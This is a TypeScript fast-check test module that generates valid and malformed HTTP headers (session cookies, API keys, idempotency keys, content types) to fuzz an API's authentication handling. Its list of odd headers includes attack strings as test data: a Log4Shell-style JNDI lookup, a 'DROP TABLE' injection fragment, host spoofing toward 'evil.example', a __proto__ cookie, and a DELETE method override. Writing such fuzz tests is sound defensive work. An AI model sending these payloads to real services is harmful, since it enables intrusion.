import fc, { type Arbitrary } from 'fast-check';
import { newSecret } from '../../src/common/secret.js';
import type { World } from './world.js';

/** Names and values as they are sent; names may repeat. */
export type Headers = [name: string, value: string][];

/** Nearly always the first one. */
export const mostly = <T>(usual: Arbitrary<T>, odd: Arbitrary<T>): Arbitrary<T> =>
  fc.oneof({ weight: 14, arbitrary: usual }, { weight: 1, arbitrary: odd });

const bearer = (key: string): Headers => [['Authorization', `Bearer ${key}`]];
const apiKey = (key: string): Headers => [['X-API-Key', key]];

/** What a page of the console sends, of somebody who is signed in. */
function validSessions({ sessions, origin }: World): Arbitrary<Headers> {
  const sent = sessions.map((cookie): Headers => [
    ['Cookie', cookie],
    ['Sec-Fetch-Site', 'same-origin'],
    ['Origin', origin],
  ]);
  const spoilt = sent.map((headers) => headers.slice(0, -1));
  return mostly(fc.constantFrom(...sent), fc.constantFrom<Headers>(...spoilt));
}

/** The valid keys of a world, those of operators and managers more often. */
function validKeys({ credentials }: World): Arbitrary<Headers> {
  const { operator, managers, members, others } = credentials;
  const key = fc.oneof(
    { weight: 7, arbitrary: fc.constant(operator) },
    { weight: 4, arbitrary: fc.constantFrom(...managers) },
    { weight: 2, arbitrary: fc.constantFrom(...members) },
    { weight: 1, arbitrary: fc.constantFrom(...others) },
  );
  return fc.tuple(key, fc.constantFrom(bearer, apiKey)).map(([one, write]) => write(one));
}

function badKeys({ credentials: { operator, members, revoked } }: World): Arbitrary<Headers> {
  const [member = ''] = members;
  return fc.oneof(
    fc.constantFrom<Headers>(
      [],
      bearer(revoked),
      apiKey(newSecret('kf')),
      bearer(`${member.slice(0, -1)}!`),
      [...bearer(operator), ...apiKey(member)],
      [...apiKey(operator), ...apiKey(operator)],
      [...bearer(member), ...bearer(operator)],
      [['Authorization', `Basic ${Buffer.from(`a:${member}`).toString('base64')}`]],
      [['Authorization', `bEaReR   ${member}`]],
      [['Authorization', `Bearer ${member},${member}`]],
      [['Authorization', 'Bearer']],
      [['X-API-Key', '']],
      [['X-API-Key', 'x'.repeat(5_000)]],
      [['X-API-Key', 'k\u00e9y\t\u00ff']],
    ),
    fc.stringMatching(/^[\x21-\x7e\xa0-\xff]{0,60}$/).map(apiKey),
  );
}

const idempotencyKeys = fc.oneof(
  { weight: 2, arbitrary: fc.constantFrom('one', 'two', 'three').map((key) => [key]) },
  { weight: 4, arbitrary: fc.uuid().map((key) => [key]) },
  fc.constantFrom(['x'.repeat(255)], ['x'.repeat(256)], [''], ['a b'], ['\u00e9'], ['one', 'two']),
);

const oddHeaders = fc.constantFrom<[name: string, value: string]>(
  ['Accept', 'text/html;q=0.1, */*;q=0'],
  ['Accept', 'application/xml'],
  ['Accept-Encoding', 'gzip, br, *;q=0'],
  ['Accept-Language', '\u00e9'],
  ['X-Forwarded-For', '192.0.2.1, 10.0.0.1'],
  ['X-Forwarded-For', 'unknown, "[::1]:80"; DROP TABLE'],
  ['X-Forwarded-For', '1,'.repeat(1_000)],
  ['Forwarded', 'for=192.0.2.1;host=evil.example'],
  ['X-Forwarded-Host', 'evil.example'],
  ['X-HTTP-Method-Override', 'DELETE'],
  ['X-Request-Id', 'mine'],
  ['User-Agent', 'x'.repeat(4_000)],
  ['User-Agent', '\u00fc\u00ff\t${jndi:ldap://example.com}'],
  ['Cookie', `__proto__=1; ${'a=b;'.repeat(100)}`],
  ['Origin', 'null'],
  ['If-None-Match', '*'],
  ['Range', 'bytes=0-0,-1'],
  ['Content-Encoding', 'gzip'],
  ['Expect', 'nothing'],
  ['X-Large', 'x'.repeat(20_000)],
);

/**
 * All headers but those that describe the body.
 *
 * @param isForConsole whether the operation is one that a key does not open
 */
export function headersOf(
  world: World,
  isCreation: boolean,
  isForConsole: boolean,
): Arbitrary<Headers> {
  const sessions = validSessions(world);
  const keys = validKeys(world);
  const valid = isForConsole
    ? sessions
    : fc.oneof({ weight: 9, arbitrary: keys }, { weight: 1, arbitrary: sessions });
  const repeated: Arbitrary<Headers> = idempotencyKeys.map((keys) =>
    keys.map((key) => ['Idempotency-Key', key]),
  );
  const none = fc.constant<Headers>([]);
  return fc
    .tuple(
      mostly(valid, badKeys(world)),
      isCreation ? fc.oneof(none, repeated) : mostly(none, repeated),
      mostly(none, fc.array(oddHeaders, { minLength: 1, maxLength: 3 })),
    )
    .map((parts) => parts.flat());
}

const oddTypes = fc.constantFrom<Headers>(
  [],
  ...['', 'text/plain', 'application/xml', 'application/x-www-form-urlencoded', 'json', '*/*'].map(
    (type): Headers => [['Content-Type', type]],
  ),
  ...['charset=utf-16', 'charset="utf-8"', 'charset=nonsense', 'a=b;c', ';;;', '\u00e9'].map(
    (parameter): Headers => [['Content-Type', `application/json; ${parameter}`]],
  ),
  [['Content-Type', 'application/problem+json']],
  [['Content-Type', 'APPLICATION/JSON']],
  [
    ['Content-Type', 'application/json'],
    ['Content-Type', 'text/plain'],
  ],
);

/** What a client says its body is. */
export const contentTypes: Arbitrary<Headers> = fc.oneof(
  { weight: 14, arbitrary: fc.constant<Headers>([['Content-Type', 'application/json']]) },
  { weight: 1, arbitrary: oddTypes },
);
